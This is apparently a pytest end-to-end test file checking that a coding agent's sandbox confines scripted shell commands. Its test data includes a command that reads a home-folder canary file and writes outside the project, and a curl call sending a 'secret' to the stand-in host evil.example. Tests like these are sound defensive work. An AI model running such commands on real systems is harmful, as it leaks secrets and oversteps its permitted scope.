"""`codegen` with its sandbox: what a user sees of it, on a machine that can do one."""

import asyncio

import pytest

from executor.sandbox.detect import look
from tests.e2e.machine import Machine
from tests.requirements import covers
from tests.scripted_model import ScriptedModel, call, calls, text

FINDINGS = look()
KINDS = [
    pytest.param(kind, marks=pytest.mark.skipif(not there, reason=f"no {kind} on this machine"))
    for kind, there in (("bubblewrap", FINDINGS.bubblewrap), ("landlock", FINDINGS.landlock))
]


@covers("R-SANDBOX-1")
@pytest.mark.parametrize("kind", KINDS)
async def test_mode_auto_needs_no_flag_where_commands_are_confined(
    machine: Machine, kind: str
) -> None:
    (machine.folder / "diary").write_text("canary-7f31\n")
    (machine.project / "src").mkdir()
    line = "echo x > src/new; cat ~/diary; echo y > ../planted; echo z > .envrc"
    script = [calls(call("Shell", command=line)), text("Done.")]
    async with ScriptedModel(script) as model:
        machine.use_model(model.base_url)
        ran = await machine.codegen("--mode", "auto", "--sandbox", kind, "do it")
        (result,) = [
            message["content"]
            for message in model.requests[1].messages
            if message["role"] == "tool"
        ]

    assert (ran.code, ran.out) == (0, "Done.\n")
    assert (machine.project / "src" / "new").read_text() == "x\n"
    assert sorted(path.name for path in machine.project.iterdir()) == ["src"]
    assert not (machine.folder / "planted").exists()
    assert "canary" not in result
    assert "This command ran in a sandbox" in result


@pytest.mark.parametrize("kind", KINDS)
async def test_the_doctor_names_the_sandbox(machine: Machine, kind: str) -> None:
    machine.config_file.write_text(f'[sandbox]\nkind = "{kind}"\nnetwork = ["all"]\n')
    ran = await machine.codegen("doctor")

    assert f"sandbox: {kind}: commands write in the project" in ran.out
    assert "commands may use the whole network" in ran.out


@pytest.mark.skipif(FINDINGS.bubblewrap is None, reason="no bubblewrap on this machine")
@covers("R-HOSTS-1", "R-HOSTS-4")
async def test_commands_reach_the_hosts_of_the_configuration_and_the_rest_is_told(
    machine: Machine,
) -> None:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.0 200 OK\r\n\r\nreached\n")
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    line = f"curl -sS http://localhost:{port}/x; curl -sS https://evil.example/?secret || true"
    script = [calls(call("Shell", command=line)), text("Done.")]
    async with ScriptedModel(script) as model:
        machine.use_model(model.base_url)
        config = machine.config_file.read_text() if machine.config_file.exists() else ""
        hosts = f'["localhost:{port}", "*.example"]'
        denied = '[policy]\ndeny = ["WebFetch(evil.example)"]\n'
        machine.config_file.write_text(f"{config}{denied}[sandbox]\nnetwork = {hosts}\n")
        ran = await machine.codegen("--mode", "auto", "--sandbox", "bubblewrap", "do it")
        doctor = await machine.codegen("doctor")
        audit = await machine.codegen("audit", "show")
    server.close()

    result = str(model.requests[1].messages[-1]["content"])
    assert ran.code == 0
    assert "reached\n" in result
    assert "The sandbox kept this command from evil.example:443" in result
    assert f"commands may reach localhost:{port}, *.example through a filter" in doctor.out
    assert f"allowed localhost:{port}" in audit.out
    assert "refused evil.example:443" in audit.out
    told = [line for line in audit.out.splitlines() if " network " in line]
    assert len(told) == 2
    assert "secret" not in "".join(told)


async def test_a_sandbox_that_is_switched_off_is_said_by_the_doctor(machine: Machine) -> None:
    ran = await machine.codegen("doctor", CODEGEN_SANDBOX="none")

    assert "no sandbox (switched off: CODEGEN_SANDBOX)" in ran.out


async def test_a_container_without_an_image_runs_nothing(machine: Machine) -> None:
    if FINDINGS.container is None:
        pytest.skip("no docker or podman on this machine")
    script = [calls(call("Shell", command="touch made")), text("Not done.")]
    async with ScriptedModel(script) as model:
        machine.use_model(model.base_url)
        await machine.codegen("--mode", "auto", "--sandbox", "container", "do it")

    assert "needs an image" in str(model.requests[1].messages[-1]["content"])
    assert list(machine.project.iterdir()) == []
